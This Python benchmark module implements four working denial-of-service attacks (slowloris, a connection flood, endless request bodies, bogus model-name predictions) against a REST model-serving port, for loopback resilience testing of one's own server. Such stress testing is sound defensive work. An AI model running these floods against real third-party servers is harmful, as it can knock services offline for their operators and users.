"""Attacks on a REST (HTTP/1.1) port, over raw sockets. Loopback only: point them at servers
you run.

One function per attack, ``attack(host, port, duration) -> AttackResult`` (the shape of
``benchmarks/attacks_h2.py``'s), each running for ``duration`` seconds and counting what the
server answered (status codes) and how often it closed the attacker's connections.

    from benchmarks import attacks_rest
    print(attacks_rest.ATTACKS["slowloris"]("127.0.0.1", 8501, 10.0))
"""

from __future__ import annotations

import collections
import random
import socket
import string
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field

MiB = 1024 * 1024
HEAD = b"POST /v1/models/binary:predict HTTP/1.1\r\nhost: attack\r\n"


@dataclass
class AttackResult:
    """What one attack sent and how the server answered."""

    name: str
    sent: int = 0  # connections opened or requests sent
    seconds: float = 0.0
    closed_by_server: int = 0  # attacking connections the server closed
    statuses: dict[int, int] = field(default_factory=dict)  # answers seen, by status
    notes: dict[str, object] = field(default_factory=dict)

    def saw(self, answer: bytes) -> None:
        if answer.startswith(b"HTTP/1.1 "):
            code = int(answer[9:12])
            self.statuses[code] = self.statuses.get(code, 0) + 1


def _connect(host: str, port: int) -> socket.socket | None:
    try:
        sock = socket.create_connection((host, port), timeout=10)
    except OSError:
        return None
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return sock


def _closed(sock: socket.socket, result: AttackResult) -> bool:
    """True (and the answer counted) when the server has answered or closed ``sock``."""
    timeout = sock.gettimeout()
    sock.settimeout(0)
    try:
        data = sock.recv(65536)
    except BlockingIOError:
        return False
    except OSError:
        data = b""
    finally:
        sock.settimeout(timeout)
    result.saw(data)
    return True


def slowloris(host: str, port: int, duration: float, connections: int = 1500) -> AttackResult:
    """``connections`` requests whose headers never end: a header line a second on each;
    any the server closes is reopened at once."""
    result = AttackResult("slowloris")
    start = time.monotonic()
    open_: list[socket.socket] = []
    while time.monotonic() - start < duration:
        while len(open_) < connections and time.monotonic() - start < duration:
            sock = _connect(host, port)
            if sock is None:
                break
            try:
                sock.sendall(HEAD)
            except OSError:
                sock.close()
                continue
            open_.append(sock)
            result.sent += 1
        alive = []
        for sock in open_:
            try:
                sock.sendall(b"x-slow: %d\r\n" % random.randrange(1000))
                if not _closed(sock, result):
                    alive.append(sock)
                    continue
            except OSError:
                pass
            result.closed_by_server += 1
            sock.close()
        open_ = alive
        time.sleep(1.0)
    for sock in open_:
        sock.close()
    result.seconds = time.monotonic() - start
    return result


def connection_flood(host: str, port: int, duration: float, held: int = 3000) -> AttackResult:
    """Connections opened as fast as possible, up to ``held`` open at once (then the oldest
    is closed), each sending one complete request and never reading the answer."""
    result = AttackResult("connection_flood")
    start = time.monotonic()
    window: collections.deque[socket.socket] = collections.deque()
    request = b"GET /v2/health/live HTTP/1.1\r\nhost: attack\r\n\r\n"
    while time.monotonic() - start < duration:
        sock = _connect(host, port)
        if sock is None:
            time.sleep(0.01)
            continue
        try:
            sock.sendall(request)
        except OSError:
            result.closed_by_server += 1
        window.append(sock)
        result.sent += 1
        if len(window) > held:
            old = window.popleft()
            if _closed(old, result):
                result.closed_by_server += 1
            old.close()
    for sock in window:
        sock.close()
    result.seconds = time.monotonic() - start
    return result


def _huge_body(host: str, port: int, stop: float, chunked: bool, result: AttackResult) -> None:
    lock = threading.Lock()
    block = b"1" * MiB
    while time.monotonic() < stop:
        sock = _connect(host, port)
        if sock is None:
            time.sleep(0.05)
            continue
        head = b"transfer-encoding: chunked" if chunked else b"content-length: 1073741824"
        piece = b"%x\r\n%s\r\n" % (len(block), block) if chunked else block
        sent = 0
        try:
            sock.sendall(HEAD + b"content-type: application/json\r\n" + head + b"\r\n\r\n")
            while time.monotonic() < stop:
                sock.sendall(piece)
                sent += len(piece)
        except OSError:
            with lock:
                result.closed_by_server += 1
        with lock:
            result.sent += 1
            result.notes["bytes_sent"] = int(str(result.notes.get("bytes_sent", 0))) + sent
        _closed(sock, result)
        sock.close()


def huge_bodies(host: str, port: int, duration: float, workers: int = 4) -> AttackResult:
    """``workers`` connections at a time, each sending an endless body (half of them declare
    1 GiB, half are chunked without end), reopened when the server closes them."""
    result = AttackResult("huge_bodies")
    start = time.monotonic()
    stop = start + duration
    threads = [
        threading.Thread(target=_huge_body, args=(host, port, stop, i % 2 == 1, result))
        for i in range(workers)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    result.seconds = time.monotonic() - start
    return result


def bogus_names(host: str, port: int, duration: float) -> AttackResult:
    """Predictions for made-up model names (TF Serving and V2 paths), one connection."""
    result = AttackResult("bogus_names")
    start = time.monotonic()
    sock = _connect(host, port)
    body = b'{"instances": [[1.0, 2.0, 3.0]]}'
    buffer = b""
    while sock is not None and time.monotonic() - start < duration:
        name = "".join(random.choices(string.ascii_lowercase, k=12))
        path = f"/v1/models/{name}:predict" if result.sent % 2 else f"/v2/models/{name}/infer"
        head = f"POST {path} HTTP/1.1\r\nhost: attack\r\ncontent-length: {len(body)}\r\n\r\n"
        try:
            sock.sendall(head.encode() + body)
            while b"\r\n\r\n" not in buffer:
                chunk = sock.recv(65536)
                if not chunk:
                    raise ConnectionResetError
                buffer += chunk
            result.saw(buffer)
            head_end = buffer.index(b"\r\n\r\n") + 4
            length = int(buffer.lower().split(b"content-length: ", 1)[1].split(b"\r\n", 1)[0])
            while len(buffer) < head_end + length:
                buffer += sock.recv(65536)
            buffer = buffer[head_end + length :]
        except (OSError, IndexError, ValueError):
            result.closed_by_server += 1
            sock.close()
            sock = _connect(host, port)
            buffer = b""
        result.sent += 1
    if sock is not None:
        sock.close()
    result.seconds = time.monotonic() - start
    return result


ATTACKS: dict[str, Callable[[str, int, float], AttackResult]] = {
    "slowloris": slowloris,
    "connection_flood": connection_flood,
    "huge_bodies": huge_bodies,
    "bogus_names": bogus_names,
}
